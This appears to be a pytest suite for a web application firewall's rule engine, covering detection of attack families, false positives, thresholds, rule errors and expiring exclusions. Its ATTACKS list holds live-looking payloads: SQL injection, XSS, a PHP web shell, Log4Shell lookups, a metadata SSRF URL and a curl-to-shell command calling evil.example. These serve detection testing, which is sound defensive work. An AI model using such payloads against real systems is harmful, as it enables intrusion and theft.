"""The native front end, and the embedded rules written in it."""

from urllib.parse import quote_plus

import pytest

from edge.l7.waf.inspector import Inspector
from edge.l7.waf.problem import RuleError
from edge.l7.waf.request import PASS
from edge.l7.waf.ruleset import Settings
from tests.l7.waf.samples import embedded, embedded_inspector, get, native, post

ATTACKS = [
    ("sqli", b"1' or '1'='1"),
    ("sqli", b"x' UNION/**/SELECT password FROM users--"),
    ("xss", b"<ScRiPt>alert(1)</script>"),
    ("xss", b"\\u003cimg src=x onerror=alert(1)>"),
    ("lfi", b"../../../../etc/passwd"),
    ("rfi", b"php://filter/convert.base64-encode/resource=index"),
    ("ssrf", b"http://169.254.169.254/latest/meta-data/"),
    ("rce", b"; c'a't ${IFS}/etc/passwd"),
    ("rce", b"$(curl http://evil.example/x|sh)"),
    ("php", b"<?php system($_GET['c']); ?>"),
    ("java", b"${jndi:ldap://evil.example/a}"),
    ("java", b"${${lower:j}ndi:rmi://x/a}"),
    ("generic", b"require('child_process').exec('id')"),
    ("generic", b"{{config.__class__.__init__.__globals__}}"),
]


@pytest.mark.parametrize(("family", "value"), ATTACKS)
def test_the_embedded_rules_know_the_families(family: str, value: bytes) -> None:
    """The ones that the README promises."""
    body = b"q=" + value.replace(b"%", b"%25").replace(b"&", b"%26").replace(b"+", b"%2B").replace(
        b";", b"%3B"
    )

    verdict = embedded_inspector().inspect_body(post(body), body, 0.0)

    assert verdict.action == "block"
    assert family in dict(verdict.families)


@pytest.mark.parametrize(
    "text",
    [
        b"It's a nice day, isn't it?",
        b"I'll be there at 5; see you!",
        b"Select your seat from the union hall & order by phone",
        b"Rock 'n' roll <3 <3",
        b"C'est l'amour, c'est la vie",
        b"Check https://www.example.com/a?b=c#d for details",
        b"100% sure -- really (honestly)",
        b"My cat sat on the mat; find the cat.",
        b"#sunset #beach @grace",
    ],
)
def test_what_people_write_passes(text: bytes) -> None:
    """One blocked caption is one phone that never comes back."""
    body = b"caption=" + quote_plus(text).encode()

    assert embedded_inspector().inspect_body(post(body), body, 0.0).action == "pass"


def test_an_ordinary_request_gets_the_shared_pass() -> None:
    """The worker compares with `is`."""
    assert embedded_inspector().inspect_head(get(b"/api/v1/feed/timeline/?max_id=953_6"), 0.0) is PASS


def test_every_embedded_rule_explains_itself() -> None:
    """The rules are there to be learned from."""
    for rule in embedded().rules:
        assert rule.bookkeeping or (len(rule.explanation) > 40 and str(rule.message)), rule.id


def test_the_threshold_decides() -> None:
    """Two weak signs make one strong one."""
    text = (
        '[[rule]]\nid = 1\nscore = 3\nmatch = {contains = "a"}\ntargets = ["args"]\nmsg = "a"\n'
        '[[rule]]\nid = 2\nscore = 3\nmatch = {contains = "b"}\ntargets = ["args"]\nmsg = "b"\n'
    )
    inspector = Inspector(native(text))

    assert inspector.inspect_head(get(b"/?q=a"), 0.0).action == "pass"
    both = inspector.inspect_head(get(b"/?q=ab"), 0.0)
    assert (both.action, both.score, [match.id for match in both.matches]) == ("block", 6, [1, 2])


def test_a_rule_above_the_detection_level_is_not_loaded() -> None:
    """Paranoia costs nothing where it is off."""
    text = '[[rule]]\nid = 1\nscore = 5\nparanoia = 3\nmatch = {contains = "a"}\nmsg = "a"\n'

    assert [rule.id for rule in native(text).rules if not rule.bookkeeping] == []
    assert [
        rule.id for rule in native(text, Settings(detection_paranoia=3)).rules if not rule.bookkeeping
    ] == [1]


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("[[rule]]\nid = 1\nfrob = 2", "test.toml:1: unknown key frob"),
        ("\n[[rule]]\nid = 1", "test.toml:2: a rule needs a match"),
        ("[[rule]]\nid = 1\nmatch = {frob = 1}", "test.toml:1: unknown test frob"),
        ("[[rule]]\nid = 1\nmatch = {rx = '(?=a)'}", "test.toml:1: RE2 cannot run the pattern"),
        ("[[rule]]\nid = 1\nmatch = {rx = 'a'}\ntargets = ['frob']", "test.toml:1: unknown target frob"),
        ("[[exclude]]\nrules = ['1']", "test.toml:1: an exclusion needs a reason"),
        ("[[exclude]]\nrules = ['x']\nreason = 'r'", "test.toml:1: 'x' is no rule id"),
        ("[[rule]]\nid = 1\nmatch = {ip = ['1.2.3']}", "test.toml:1: ip: '1.2.3' does not appear to be"),
        ("[[frob]]", "test.toml: unknown table frob"),
    ],
)
def test_what_is_wrong_is_named_with_its_line(text: str, problem: str) -> None:
    """TOML has no line numbers; operators need them."""
    with pytest.raises(RuleError) as caught:
        native(text)

    assert any(found.startswith(problem) for found in caught.value.problems)


def test_an_exclusion_holds_only_where_and_as_long_as_it_says() -> None:
    """Narrow, with a reason, and never for ever by accident."""
    text = (
        '[[rule]]\nid = 7\nscore = 5\ntargets = ["args"]\nmatch = {contains = "evil"}\nmsg = "m"\n'
        '[[exclude]]\nrules = ["7"]\ntargets = ["args:token"]\nreason = "random text"\nexpires = 2027-01-31\n'
        'when = { host = "i.edge.test", path_prefix = "/login", method = ["GET"] }\n'
    )
    before, after = 1_800_000_000.0, 1_802_000_000.0
    inspector = Inspector(native(text))

    assert inspector.inspect_head(get(b"/login?token=evil"), before).action == "pass"
    assert inspector.inspect_head(get(b"/login?token=evil"), before).excluded == (7,)
    assert inspector.inspect_head(get(b"/login?other=evil"), before).action == "block"
    assert inspector.inspect_head(get(b"/feed?token=evil"), before).action == "block"
    assert inspector.inspect_head(get(b"/login?token=evil"), after).action == "block"
